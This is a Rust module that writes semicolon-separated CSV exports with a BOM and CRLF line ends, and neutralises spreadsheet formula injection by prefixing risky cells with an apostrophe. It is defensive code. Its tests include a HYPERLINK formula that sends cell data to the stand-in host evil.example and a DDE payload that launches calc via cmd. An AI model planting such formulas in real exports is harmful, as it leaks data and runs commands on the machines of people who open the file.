//! Writing CSV files the way a Dutch spreadsheet opens them: semicolons, UTF-8 with a BOM (so
//! Excel reads the accents right), CRLF line ends, fields quoted where needed.
//!
//! Every exported value is typed by someone (a name, an e-mail address, a branch); a value that
//! starts like a formula (`=`, `+`, `-`, `@`, tab or carriage return) would be run by the
//! spreadsheet of whoever opens the export ("CSV injection"). Such a cell gets a leading `'`,
//! which spreadsheets show as text and do not evaluate.

/// A CSV file being written.
pub struct Sheet {
    text: String,
}

impl Sheet {
    /// A file with this header line.
    pub fn new(header: &[&str]) -> Self {
        let mut sheet = Self {
            text: String::from('\u{feff}'),
        };
        sheet.row(header);
        sheet
    }

    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
        for (i, value) in cells.iter().enumerate() {
            if i > 0 {
                self.text.push(';');
            }
            self.text.push_str(&cell(value.as_ref()));
        }
        self.text.push_str("\r\n");
    }

    pub fn finish(self) -> String {
        self.text
    }

    /// What was written since the last `take`, for sending a long file in parts.
    pub fn take(&mut self) -> String {
        std::mem::take(&mut self.text)
    }
}

/// One cell: harmless to a spreadsheet, quoted when it holds a delimiter, quote or line end.
pub fn cell(value: &str) -> String {
    let value = if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_string()
    };
    if value.contains([';', ',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::csv::records;
    use proptest::prelude::*;

    #[test]
    fn attack_csv_formula_injection_in_an_export_is_neutralised() {
        let mut sheet = Sheet::new(&["naam", "e-mail"]);
        sheet.row(&[
            "=HYPERLINK(\"https://evil.example/?\"&A1;\"Klik\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ]);
        sheet.row(&["+31 6 1234", "-2+3"]);
        sheet.row(&["\tTab", "Jansen, B.V."]);
        let text = sheet.finish();
        assert!(text.starts_with("\u{feff}naam;e-mail\r\n"));
        let rows = records(&text, ';');
        for value in rows.iter().skip(1).flatten() {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value:?} would run as a formula"
            );
        }
        assert_eq!(
            rows[1][0],
            "'=HYPERLINK(\"https://evil.example/?\"&A1;\"Klik\")"
        );
        assert_eq!(rows[3][1], "Jansen, B.V.");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]
        #[test]
        fn every_value_reads_back_as_written_or_with_one_leading_quote(
            values in proptest::collection::vec("[=+@\\-\t\r\n;,\"'a-zé ]{0,12}", 1..6)
        ) {
            let mut sheet = Sheet::new(&["x"]);
            sheet.row(&values);
            let text = sheet.finish();
            let rows = records(&text, ';');
            // An empty row of one empty cell is not a record; otherwise one record per row.
            if values.len() == 1 && values[0].is_empty() {
                prop_assert_eq!(rows.len(), 1);
            } else {
                prop_assert_eq!(rows.len(), 2);
                prop_assert_eq!(rows[1].len(), values.len());
                for (read, written) in rows[1].iter().zip(&values) {
                    let formula = written.starts_with(['=', '+', '-', '@', '\t', '\r']);
                    if formula {
                        prop_assert_eq!(read, &format!("'{written}"));
                    } else {
                        prop_assert_eq!(read, written);
                    }
                }
            }
        }
    }
}
